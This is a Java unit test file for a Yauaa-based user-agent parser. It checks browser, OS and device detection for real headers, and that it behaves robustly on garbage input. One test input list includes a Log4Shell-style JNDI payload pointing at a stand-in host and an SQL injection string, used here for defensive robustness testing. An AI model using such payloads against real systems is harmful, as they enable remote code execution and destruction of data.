package dev.warden.adapter.useragent;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertSame;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.warden.domain.BoundedText;
import dev.warden.domain.ClientDescription;
import dev.warden.domain.ClientInfo;
import dev.warden.domain.DeviceType;
import java.util.concurrent.ThreadLocalRandom;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What a responder reads in the Sessions list for real browsers' and bots' headers, through Yauaa. */
class YauaaUserAgentParserTest {
    private final YauaaUserAgentParser parser = new YauaaUserAgentParser();

    @ParameterizedTest(name = "{0} {1} on {2} {3}, {4}")
    @CsvSource(delimiter = '|', textBlock = """
            Googlebot        | 2.1            | Google Cloud | ''        | BOT     | Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)
            Googlebot        | 2.1            | Google Cloud | ''        | BOT     | Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.71 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)
            Bingbot          | 2.0            | Microsoft Cloud | Microsoft Azure | BOT | Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)
            Samsung Internet | 23.0           | Android      | 13        | MOBILE  | Mozilla/5.0 (Linux; Android 13; SAMSUNG SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/23.0 Chrome/115.0.0.0 Mobile Safari/537.36
            Vivaldi          | 6.5.3206.48    | Windows NT   | ''        | DESKTOP | Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Vivaldi/6.5.3206.48
            Safari           | 17.2           | iOS          | 17.2      | MOBILE  | Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Mobile/15E148 Safari/604.1
            Safari           | 17.2           | iOS          | 17.2      | TABLET  | Mozilla/5.0 (iPad; CPU OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Mobile/15E148 Safari/604.1
            Firefox          | 121.0          | Windows NT   | >=10      | DESKTOP | Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:121.0) Gecko/20100101 Firefox/121.0
            Firefox          | 121.0          | Ubuntu       | ''        | DESKTOP | Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0
            Chrome           | 126.0          | Linux        | ''        | DESKTOP | Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36
            Edge             | 120            | Windows NT   | >=10      | DESKTOP | Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.2210.91
            Opera            | 106.0.0.0      | Windows NT   | ''        | DESKTOP | Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 OPR/106.0.0.0
            Safari           | 17.2           | Mac OS       | >=10.15.7 | DESKTOP | Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15
            Chrome           | 120.0.6099.144 | Android      | 14        | MOBILE  | Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.144 Mobile Safari/537.36
            Chrome           | 120            | Android      | 13        | TABLET  | Mozilla/5.0 (Linux; Android 13; SM-X700) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36
            Curl             | 8.5.0          | Cloud        | ''        | BOT     | curl/8.5.0
            Python-Requests  | 2.31.0         | Cloud        | ''        | BOT     | python-requests/2.31.0
            """)
    void givenARealUserAgent_whenDescribed_thenBrowserOsAndDeviceKindAreWhatAPersonWouldSay(
            String browser, String browserVersion, String os, String osVersion, DeviceType deviceType, String userAgent) {
        assertEquals(new ClientDescription(browser, browserVersion, os, osVersion, deviceType), parser.describe(userAgent));
    }

    @Test
    void givenSamsungInternet_thenItIsNotCalledChrome() {
        ClientDescription samsung = parser.describe("Mozilla/5.0 (Linux; Android 13; SAMSUNG SM-S918B) AppleWebKit/537.36"
                + " (KHTML, like Gecko) SamsungBrowser/23.0 Chrome/115.0.0.0 Mobile Safari/537.36");
        assertEquals("Samsung Internet", samsung.browser());
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "   ", "garbage \uFFFD\uFFFD ;;; (((", "Mozilla/5.0 ${jndi:ldap://evil.example/x}",
            "'; DROP TABLE sessions; --", "\u0000\u0001\u0002"})
    void givenAnEmptyOrGarbageUserAgent_thenEveryPartIsUnknownAndNothingIsThrown(String userAgent) {
        assertEquals(ClientDescription.UNKNOWN, parser.describe(userAgent));
    }

    @Test
    void givenNoUserAgentAtAll_thenUnknown() {
        assertSame(ClientDescription.UNKNOWN, parser.describe(null));
    }

    @Test
    void givenTheLongestHeaderALoginKeeps_thenAnAnswerAndNoException() {
        // What ClientInfo stores of an overlong header: 512 code points and the cut marker.
        String chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
                + " Chrome/120.0.0.0 Safari/537.36 ";
        String cut = new ClientInfo("203.0.113.7", chrome.repeat(20)).userAgent();
        assertTrue(cut.endsWith(BoundedText.CUT_MARKER), cut);
        assertEquals(new ClientDescription("Chrome", "120", "Windows NT", "", DeviceType.DESKTOP), parser.describe(cut));
        String noise = new ClientInfo("203.0.113.7", "x".repeat(5_000)).userAgent();
        assertEquals(ClientDescription.UNKNOWN, parser.describe(noise));
    }

    @Test
    void givenRandomBytes_thenNeverAnException() {
        ThreadLocalRandom random = ThreadLocalRandom.current();
        for (int i = 0; i < 200; i++) {
            StringBuilder text = new StringBuilder();
            int length = random.nextInt(1, ClientInfo.MAX_USER_AGENT_LENGTH);
            for (int c = 0; c < length; c++) {
                text.append((char) random.nextInt(0x20, 0x250));
            }
            String stored = new ClientInfo("203.0.113.7", text.toString()).userAgent();
            ClientDescription described = parser.describe(stored);
            assertTrue(described.browser().length() <= ClientDescription.MAX_PART_LENGTH + 1, described::toString);
        }
    }

    @Test
    void givenManyParsers_thenTheyShareOneAnalyzer() {
        assertSame(SharedAnalyzer.get(), SharedAnalyzer.get());
        assertEquals(new YauaaUserAgentParser().describe("curl/8.5.0"), parser.describe("curl/8.5.0"));
    }
}
